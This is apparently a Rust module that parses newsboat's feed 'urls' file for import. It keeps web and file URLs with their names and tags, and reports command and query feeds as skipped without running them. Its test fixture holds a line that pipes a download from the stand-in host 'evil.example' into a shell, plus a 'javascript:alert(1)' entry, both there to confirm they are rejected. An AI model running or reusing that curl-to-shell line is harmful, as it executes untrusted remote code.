//! newsboat's `urls` file: one feed per line, `URL tag "tag with spaces" "~Name"`, `#` comments.

use super::{source, usable_url, Parsed};

/// Reads every line; command and query feeds are reported in `skipped`, never run.
pub fn parse(text: &str) -> Parsed {
    let mut parsed = Parsed::default();
    for (i, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        let words = split_words(line);
        let Some(first) = words.first() else { continue };
        let Some(url) = usable_url(first) else {
            parsed.skipped.push(format!(
                "line {}: \"{}\" is not an http(s) or file URL (command and query feeds are never imported)",
                i + 1,
                crate::text::sanitize_line(first)
            ));
            continue;
        };
        let name = words[1..].iter().find_map(|w| w.strip_prefix('~'));
        // `!` marks a feed newsboat hides; the rest are the user's tags.
        let tags = words[1..]
            .iter()
            .filter(|w| !w.starts_with('~') && !w.starts_with('!'))
            .cloned()
            .collect();
        parsed.sources.push(source(name, url, tags));
    }
    parsed
}

/// Splits on whitespace, keeping "quoted words" together (quotes removed, `\"` allowed).
fn split_words(line: &str) -> Vec<String> {
    let mut words = Vec::new();
    let mut chars = line.chars().peekable();
    while let Some(&c) = chars.peek() {
        if c.is_whitespace() {
            chars.next();
            continue;
        }
        let mut word = String::new();
        if c == '"' {
            chars.next();
            while let Some(c) = chars.next() {
                match c {
                    '\\' => word.extend(chars.next()),
                    '"' => break,
                    c => word.push(c),
                }
            }
        } else {
            while let Some(&c) = chars.peek() {
                if c.is_whitespace() {
                    break;
                }
                word.push(c);
                chars.next();
            }
        }
        words.push(word);
    }
    words
}

#[cfg(test)]
mod tests {
    use super::*;

    const URLS: &str = r#"# my feeds
https://p.vn/rss/tin-tuc.rss tinh "chính trị" "~Tuyên giáo Hưng Yên"
http://q.vn/feed.xml !hidden
"exec:curl -s https://evil.example/x | sh" "~Evil"
filter:/usr/local/bin/f.sh:https://p.vn/rss
"query:Chưa đọc:unread = \"yes\""
file:///media/usb/feed.xml usb
javascript:alert(1)
"#;

    #[test]
    fn keeps_urls_names_and_tags_and_skips_commands() {
        let p = parse(URLS);
        let names: Vec<&str> = p.sources.iter().map(|s| s.name.as_str()).collect();
        assert_eq!(
            names,
            ["Tuyên giáo Hưng Yên", "q.vn", "file:///media/usb/feed.xml"]
        );
        assert_eq!(p.sources[0].tags, ["tinh", "chính trị"]);
        assert!(p.sources[1].tags.is_empty());
        assert_eq!(p.sources[2].tags, ["usb"]);
        assert_eq!(p.skipped.len(), 4, "{:?}", p.skipped);
        assert!(
            p.skipped[0].starts_with("line 4: \"exec:curl"),
            "{:?}",
            p.skipped
        );
        assert!(p
            .skipped
            .iter()
            .any(|s| s.starts_with("line 8: \"javascript")));
    }
}
